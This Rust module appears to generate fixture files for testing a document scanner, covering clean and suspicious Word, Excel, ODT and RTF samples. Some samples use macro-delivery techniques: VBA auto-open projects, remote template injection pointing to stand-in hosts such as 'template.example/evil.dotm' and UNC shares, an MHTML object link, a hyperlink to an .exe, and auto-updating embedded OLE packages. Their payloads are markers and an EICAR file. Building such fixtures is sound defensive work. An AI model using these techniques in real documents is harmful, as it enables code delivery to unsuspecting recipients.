//! The files of the office family: OOXML, ODF and RTF.

use super::{Ooxml, Package, docx_with_template};
use crate::odf::{odt, odt_with_macro};
use crate::rtf::{rtf, rtf_object};
use crate::{eicar, marker, ole, payload, vba};

/// Every OOXML, ODF and RTF file: name, bytes; the marker of each is `marker(<name up to the first dot>)`.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let clean = |kind, seed: &str| Package::new(kind, &marker(seed)).build();
    let linked = |seed: &str, kind: &str, target: &str| Package::new(Ooxml::Docx, &marker(seed)).relation(kind, target, true).build();
    let template = |seed: &str, target: &str| docx_with_template(target, &marker(seed));
    let object = |seed: &str, control: &str, noise: &str| {
        let package = ole::ole1_package("evil.txt", &payload(seed));
        rtf("A letter with an object.", &rtf_object("Package", &package, control, noise))
    };
    vec![
        ("docx-clean.docx", clean(Ooxml::Docx, "docx-clean")),
        ("xlsx-clean.xlsx", clean(Ooxml::Xlsx, "xlsx-clean")),
        ("pptx-clean.pptx", clean(Ooxml::Pptx, "pptx-clean")),
        (
            "docm-autoopen.docm",
            Package::new(Ooxml::Docx, "A letter.")
                .project(vba::auto_open("docm-autoopen"))
                .build_macro(),
        ),
        (
            "xlsm-autoopen.xlsm",
            Package::new(Ooxml::Xlsx, "A table.")
                .project(vba::auto_open("xlsm-autoopen"))
                .build_macro(),
        ),
        ("docm-empty-modules.docm", {
            let project = vba::Project::new().module("ThisDocument", vba::Kind::Document, "");
            Package::new(Ooxml::Docx, &marker("docm-empty-modules"))
                .project(project)
                .build_macro()
        }),
        (
            "docx-template-http.docx",
            template("docx-template-http", "http://template.example/evil.dotm"),
        ),
        (
            "docx-template-unc.docx",
            template("docx-template-unc", "file:///\\\\server.example\\share\\evil.dotm"),
        ),
        (
            "docx-template-local.docx",
            template("docx-template-local", "file:///C:\\Templates\\Normal.dotm"),
        ),
        (
            "docx-mhtml.docx",
            linked(
                "docx-mhtml",
                "oleObject",
                "mhtml:http://server.example/page.html!x-usc:http://server.example/page.html",
            ),
        ),
        (
            "docx-hyperlink.docx",
            linked("docx-hyperlink", "hyperlink", "https://www.example.com/"),
        ),
        (
            "docx-hyperlink-exe.docx",
            linked("docx-hyperlink-exe", "hyperlink", "https://files.example/invoice.exe"),
        ),
        (
            "docx-embedded.docx",
            Package::new(Ooxml::Docx, "A letter.")
                .embed("evil.txt", &payload("docx-embedded"))
                .build(),
        ),
        (
            "docx-embedded-eicar.docx",
            Package::new(Ooxml::Docx, &marker("docx-embedded-eicar"))
                .embed("object.bin", &eicar())
                .build(),
        ),
        (
            "docx-stray-part.docx",
            Package::new(Ooxml::Docx, "A letter.")
                .part("word/stray.bin", &payload("docx-stray-part"))
                .build(),
        ),
        ("docx-ole-package.docx", {
            let package = crate::cfb::Cfb::new().stream("\u{1}Ole10Native", &ole::ole10_native("evil.txt", &payload("docx-ole-package")));
            Package::new(Ooxml::Docx, "A letter.")
                .embed("oleObject1.bin", &package.build())
                .build()
        }),
        ("odt-clean.odt", odt(&marker("odt-clean"), "", &[])),
        ("odt-macro.odt", odt_with_macro("odt-macro")),
        (
            "odt-embedded.odt",
            odt(
                "A letter.",
                "",
                &[("ObjectReplacements/evil.txt", &payload("odt-embedded"), "text/plain")],
            ),
        ),
        ("rtf-clean.rtf", rtf(&marker("rtf-clean"), "")),
        ("rtf-package.rtf", object("rtf-package", "", "")),
        ("rtf-autoupdate.rtf", object("rtf-autoupdate", "\\objupdate", "")),
        ("rtf-noise.rtf", object("rtf-noise", "\\objupdate", "\\par\\b0 ")),
        (
            "rtf-template.rtf",
            rtf(&marker("rtf-template"), "{\\*\\template http://template.example/evil.dotm}"),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_package_opens_and_has_its_first_part_first() {
        for (name, bytes) in samples() {
            if name.ends_with("rtf") {
                assert!(bytes.starts_with(b"{\\rtf1"));
                continue;
            }
            let mut archive = ::zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
            let first = archive.by_index(0).unwrap().name().unwrap().into_owned();
            assert_eq!(
                first,
                if name.ends_with("odt") { "mimetype" } else { "[Content_Types].xml" },
                "{name}"
            );
            for index in 0..archive.len() {
                std::io::copy(&mut archive.by_index(index).unwrap(), &mut std::io::sink()).unwrap();
            }
        }
    }
}
